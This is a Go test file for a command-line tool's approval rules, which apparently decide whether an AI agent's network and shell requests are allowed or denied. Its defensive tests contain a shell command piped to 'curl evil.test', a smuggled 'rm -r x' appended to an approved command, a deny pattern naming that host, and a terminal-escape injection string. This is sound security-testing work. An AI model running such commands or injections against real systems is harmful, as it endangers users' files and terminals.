package cli

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/unicity-astrid/astrid-go/abi"
	"github.com/unicity-astrid/astrid-go/approval"
)

func TestRulesDecide(t *testing.T) {
	for _, c := range []struct {
		name        string
		yes         bool
		risk        string
		allow, deny []string
		want, flag  string
	}{
		{"nothing is said", false, "", nil, nil, "defer", ""},
		{"yes", true, "", nil, nil, "approve", "--yes"},
		{"allowed", false, "", []string{"net:https://a.test:443/**"}, nil, "approve", "--allow"},
		{"a segment is not all", false, "", []string{"net:https://a.test:443/*"}, nil, "defer", ""},
		{"another host", false, "", []string{"net:https://b.test:443/**"}, nil, "defer", ""},
		{"denied although all is approved", true, "", nil, []string{"net:https://a.test:443/**"}, "deny", "--deny"},
		{"denied although it is allowed", false, "", []string{"net:https://a.test:443/**"}, []string{"net:https://a.test:443/v1/*"}, "deny", "--deny"},
		{"no more risk than that", false, "medium", nil, nil, "approve", "--max-risk"},
		{"all risks", false, "critical", nil, nil, "approve", "--max-risk"},
		{"more risk than that", false, "low", nil, nil, "defer", ""},
		{"denied although it is little risk", false, "high", nil, []string{"net:https://a.test:443/**"}, "deny", "--deny"},
	} {
		r, err := parseRules(c.yes, c.risk, c.allow, c.deny)
		if err != nil {
			t.Fatal(err)
		}
		if got, flag := r.decide(abi.ApprovalRequired{Resource: "net:https://a.test:443/v1/chat", RiskLevel: "medium"}); got != c.want || flag != c.flag {
			t.Errorf("%s: %s by %q, want %s by %q", c.name, got, flag, c.want, c.flag)
		}
	}
	for _, bad := range []string{"", "a.test", "net:https://**/x", "fs:read:///a\nb"} {
		if _, err := parseRules(false, "", []string{bad}, nil); err == nil || !strings.Contains(err.Error(), "--allow") {
			t.Errorf("%q: %v", bad, err)
		}
	}
}

// A command that is too long to compare, or that no pattern may be about, does not slip past what denies.
func TestRulesDenyWhatCannotBeCompared(t *testing.T) {
	long := "exec:///bin/sh -c '" + strings.Repeat("x", 20<<10) + "; curl evil.test'"
	r, err := parseRules(true, "", []string{"exec:///bin/sh **"}, []string{"exec:///** evil.test*"})
	if err != nil {
		t.Fatal(err)
	}
	if got, flag := r.decide(abi.ApprovalRequired{Resource: long}); got != abi.DecisionDeny || flag != "--deny" {
		t.Errorf("%s by %q", got, flag)
	}
	r.deny = nil
	if got, flag := r.decide(abi.ApprovalRequired{Resource: long}); got != abi.DecisionApprove || flag != "--yes" {
		t.Errorf("without --deny: %s by %q", got, flag)
	}
}

func TestRulesRisk(t *testing.T) {
	for _, bad := range []string{"none", "Low", "5"} {
		if _, err := parseRules(false, bad, nil, nil); err == nil || !strings.Contains(err.Error(), "--max-risk") {
			t.Errorf("%q: %v", bad, err)
		}
	}
	r, err := parseRules(false, "critical", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := r.decide(abi.ApprovalRequired{RiskLevel: "unheard of"}); got != abi.DecisionDefer {
		t.Errorf("an unknown risk: %s", got)
	}
}

// TestRulesOfCommands: a pattern is written like the resource that a question shows, with the quotes of an argument.
func TestRulesOfCommands(t *testing.T) {
	for _, c := range []struct {
		pattern string
		argv    []string
		want    string
	}{
		{"exec:///usr/bin/bash -c 'make all'", []string{"bash", "-c", "make all"}, "approve"},
		{"exec:///usr/bin/bash -c 'make all'", []string{"bash", "-c", "make all; rm -r x"}, "defer"},
		{"exec:///usr/bin/bash -c make*", []string{"bash", "-c", "make all"}, "defer"}, // without the quotes
		{"exec:///usr/bin/bash -c 'make **'", []string{"bash", "-c", "make ./all"}, "approve"},
		{"exec:///usr/bin/bash -c 'make *'", []string{"bash", "-c", "make ./all"}, "defer"},
		{"exec:///usr/bin/bash test **", []string{"bash", "test", "./...", "-run", "A b"}, "approve"},
	} {
		r, err := parseRules(false, "", []string{c.pattern}, nil)
		if err != nil {
			t.Fatal(err)
		}
		resource := approval.ExecResource("/usr/bin/bash", c.argv)
		if got, _ := r.decide(abi.ApprovalRequired{Resource: resource}); got != c.want {
			t.Errorf("%s about %s: %s, want %s", c.pattern, resource, got, c.want)
		}
	}
}

// playRules answers by pattern what nobody is there to answer.
func playRules(t *testing.T, w *world) {
	w.prompt(ExitApproval, "s", "--allow", "net:http://127.0.0.1:1/**")
	r := w.waiting()
	pattern := r.Resource[:strings.LastIndexByte(r.Resource, '/')] + "/**"
	if stderr := w.prompt(ExitOK, "s", "--allow", pattern); !strings.Contains(stderr, "approved by --allow: ") {
		t.Errorf("it says %q", stderr)
	}
	if stderr := w.prompt(ExitTurn, "s", "--yes", "--deny", pattern); !strings.Contains(stderr, "denied by --deny: ") {
		t.Errorf("it says %q", stderr)
	}
	w.prompt(ExitApproval, "s") // nothing of it lasts
}

func TestParseEvent(t *testing.T) {
	for line, want := range map[string]string{
		`{"type":"user","text":"hi"}`:                                      "",
		`{"type":"cancel"}`:                                                "",
		`{"type":"approval","request_id":"a","decision":"deny"}`:           "",
		`{"type":"approval","request_id":"a","decision":"approve_always"}`: "",
		`hello`:                         "not an event",
		`{"type":"user","text":" "}`:    "the prompt is empty",
		`{"type":"user","txt":"hi"}`:    "unknown field",
		`{"type":"user","text":"a"} {}`: "something after",
		`{"type":"approval","request_id":"","decision":"deny"}`:   "needs a request_id",
		`{"type":"approval","request_id":"a","decision":"yes"}`:   "needs a request_id",
		`{"type":"approval","request_id":"a","decision":"defer"}`: "needs a request_id",
		`{"type":"usr"}`: "none of user, approval, cancel",
	} {
		_, err := parseEvent([]byte(line))
		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
			t.Errorf("%s: %v, want %q", line, err, want)
		}
	}
}

func TestEventsStopAtABadLine(t *testing.T) {
	var got []string
	for e := range readEvents(t.Context(), strings.NewReader("{\"type\":\"cancel\"}\n\n  \nnonsense\n{\"type\":\"cancel\"}\n")) {
		got = append(got, fmt.Sprint(e.Type, " ", e.err != nil))
		if e.err != nil && !strings.Contains(e.err.Error(), "line 4") {
			t.Error(e.err)
		}
	}
	if fmt.Sprint(got) != "[cancel false  true]" {
		t.Errorf("%q", got)
	}
}

// playConverse answers what the gate asks over standard input.
func playConverse(t *testing.T, w *world) {
	stdin, say := io.Pipe()
	hear, stdout := io.Pipe()
	code := make(chan int, 1)
	go func() {
		var errs strings.Builder
		sys := w.system(stdin, stdout, &errs)
		code <- Main([]string{"--input-format", "stream-json", "--output-format", "stream-json", "--session", "s"}, sys)
		stdout.Close()
	}()
	events := bufio.NewScanner(hear)
	until := func(kind string) (e struct{ Type, RequestID, Resource, Response string }) {
		t.Helper()
		for events.Scan() {
			var raw struct {
				Type, Resource, Response string
				RequestID                string `json:"request_id"`
			}
			if err := json.Unmarshal(events.Bytes(), &raw); err != nil {
				t.Fatal(err)
			}
			if raw.Type == kind {
				e.Type, e.RequestID, e.Resource, e.Response = raw.Type, raw.RequestID, raw.Resource, raw.Response
				return e
			}
		}
		t.Fatalf("the output ended before %s", kind)
		return e
	}
	tell := func(format string, args ...any) {
		t.Helper()
		if _, err := fmt.Fprintf(say, format+"\n", args...); err != nil {
			t.Fatal(err)
		}
	}
	until("session")
	tell(`{"type":"user","text":"hello"}`)
	a := until("approval")
	if !strings.HasPrefix(a.Resource, "net:http://127.0.0.1:") {
		t.Errorf("asked about %q", a.Resource)
	}
	tell(`{"type":"approval","request_id":%q,"decision":"deny","reason":"not now"}`, a.RequestID)
	if r := until("result"); r.Response != "" {
		t.Errorf("denied, and the answer is %q", r.Response)
	}
	tell(`{"type":"user","text":"hello"}`)
	tell(`{"type":"approval","request_id":%q,"decision":"approve_session"}`, until("approval").RequestID)
	if r := until("result"); r.Response != "hi there" {
		t.Errorf("the answer is %q", r.Response)
	}
	tell(`{"type":"user","text":"hello"}`) // the session's permission covers it
	if r := until("result"); r.Response != "hi there" {
		t.Errorf("the answer is %q", r.Response)
	}
	if err := say.Close(); err != nil {
		t.Fatal(err)
	}
	go func() {
		_, _ = io.Copy(io.Discard, hear) // whatever is still said, the command must end
	}()
	if c := <-code; c != ExitOK {
		t.Errorf("exit code %d", c)
	}
}

// A later version from the same place is no news; the same name from elsewhere is.
func TestSameSource(t *testing.T) {
	for _, c := range []struct {
		a, b string
		want bool
	}{
		{"@org/demo@1.0.0", "@org/demo", true}, {"@org/demo", "@0rg/demo", false}, {"@org/demo", "@org/other", false},
		{"/a/demo.capsule", "/a/demo.capsule", true}, {"/a/demo.capsule", "/b/demo.capsule", false}, {"", "@org/demo", false},
		{"https://a.test/x.capsule", "https://b.test/x.capsule", false}, {"@org/demo", "/org/demo", false},
	} {
		if got := sameSource(c.a, c.b); got != c.want {
			t.Errorf("%s, %s: %v", c.a, c.b, got)
		}
	}
}

// What a note quotes does not steer the terminal.
func TestNotesAreHarmless(t *testing.T) {
	var out strings.Builder
	System{Stderr: &out}.notef("%v\n  next line", errors.New("404 \x1b[2Jowned \u202e"))
	if got := out.String(); got != "astrid: 404 \\u001b[2Jowned \\u202e\n  next line\n" {
		t.Errorf("%q", got)
	}
}
